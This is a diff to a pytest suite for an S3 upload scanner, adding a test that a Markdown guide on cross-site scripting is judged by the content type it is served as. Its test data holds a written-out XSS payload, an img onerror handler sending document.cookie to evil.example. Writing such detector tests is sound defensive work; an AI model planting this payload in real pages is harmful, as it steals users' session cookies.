@@ -17,6 +17,8 @@ import pytest
 from tests.conftest import load_handler
 from tests.unit.uploads import samples
 
+MD = "md"  # Markdown names are built: tests/unit/test_docs.py takes a written-out one for a file reference
+
 ACCOUNT = "acme-corp"
 UPLOADED = datetime(2026, 11, 27, 10, 0, tzinfo=UTC)  # every record's eventTime and SQS SentTimestamp
 
@@ -91,8 +93,12 @@ class Env:
         # The template versions the bucket; moto's CloudFormation does not apply it.
         self.s3.put_bucket_versioning(Bucket=self.bucket, VersioningConfiguration={"Status": "Enabled"})
 
-    def put(self, key: str, data: bytes, tagging: str | None = None) -> dict[str, Any]:
-        extra = {"Tagging": tagging} if tagging else {}
+    def put(
+        self, key: str, data: bytes, tagging: str | None = None, content_type: str | None = None
+    ) -> dict[str, Any]:
+        extra: dict[str, str] = {"Tagging": tagging} if tagging else {}
+        if content_type:
+            extra["ContentType"] = content_type
         resp = self.s3.put_object(Bucket=self.bucket, Key=key, Body=data, **extra)
         return s3_record(
             self.bucket, key, version=resp.get("VersionId"), etag=resp["ETag"].strip('"'), size=len(data)
@@ -181,6 +187,26 @@ def test_html_with_onerror_exfiltration_is_a_script_exploit(env: Env) -> None:
     assert v.evidence["event_handlers"] == {"onerror": 1}
     assert "document.cookie" in v.evidence["exfiltration_markers"]
     assert env.tags(f"{env.bucket}/{key}", bucket=env.quarantine)["aup-verdict"] == "threat"
+
+
+GUIDE = (
+    b"# Preventing cross-site scripting\n\nA comment an attacker controls can hold:\n\n"
+    b"```html\n<img src=x onerror=\"fetch('//evil.example/?c='+document.cookie)\">\n```\n"
+)
+
+
+def test_a_markdown_guide_is_judged_by_the_type_it_is_served_as(env: Env) -> None:
+    """Stored as text/markdown, the guide's fenced payload is code a renderer prints: clean, where it
+    was. The same bytes stored as text/html are a page a browser runs: quarantined, a strike."""
+    doc = f"accounts/{ACCOUNT}/docs/xss.{MD}"
+    env.run(env.put(doc, GUIDE, content_type="text/markdown; charset=utf-8"))
+    assert env.tags(doc)["aup-verdict"] == "clean" and env.violations() == []
+
+    page = f"accounts/{ACCOUNT}/docs/xss-page.{MD}"
+    rec = env.put(page, GUIDE, content_type="text/html")
+    env.run(rec)
+    (v,) = [v for v in env.violations() if v.rule_id == "I3-script-in-document"]
+    assert v.decision == "strike" and not env.exists(page, rec["s3"]["object"]["versionId"])
 
 
 def test_zip_bomb_is_caught_without_expanding_it(env: Env) -> None:
